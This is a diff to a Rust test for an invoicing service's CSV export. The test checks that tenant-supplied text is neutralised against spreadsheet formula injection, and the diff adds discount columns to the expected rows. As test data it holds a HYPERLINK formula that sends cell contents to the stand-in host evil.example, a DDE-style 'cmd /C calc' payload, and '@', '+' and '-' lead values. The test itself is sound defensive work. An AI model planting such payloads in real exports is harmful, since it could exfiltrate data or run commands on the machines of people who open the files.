@@ -18,20 +18,6 @@ use tally_invoicing::lifecycle::finalize_sealed;
 
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#;
 
-impl Server {
-    async fn text(&self, path: &str, key: &str) -> String {
-        let res = self
-            .http
-            .get(format!("{}{path}", self.base))
-            .bearer_auth(key)
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(res.status(), StatusCode::OK, "{path}");
-        res.text().await.unwrap()
-    }
-}
-
 /// October 2026, finalized: acme's partner line is named by the partner (a
 /// formula as SKU name, `+1` as unit, a tab-led second SKU name) from a
 /// provider an admin named `@SUM(1)`; umbrella's invoice is voided by
@@ -131,10 +117,10 @@ async fn tenant_text_in_every_csv_is_neutralised_against_formulas() {
     assert_eq!(
         bill,
         [
-            "account_id,period,invoice_number,status,currency,provider_id,provider_name,sku,description,quantity,unit,unit_price,amount,resource,binding_id",
-            r#"acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,,"#,
-            "acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,'-1+prod · PS-10,bnd_1",
-            "acme,2026-10,TLY-2026-000001,finalized,USD,,,,total,,,,1.40,,",
+            "account_id,period,invoice_number,status,currency,provider_id,provider_name,sku,description,quantity,unit,unit_price,amount,resource,binding_id,before_discount,discount,discount_funded_by",
+            r#"acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,,,0.40,0.00,"#,
+            "acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,'-1+prod · PS-10,bnd_1,1.00,0.00,",
+            "acme,2026-10,TLY-2026-000001,finalized,USD,,,,total,,,,1.40,,,,,",
             "",
         ]
         .join("\n"),
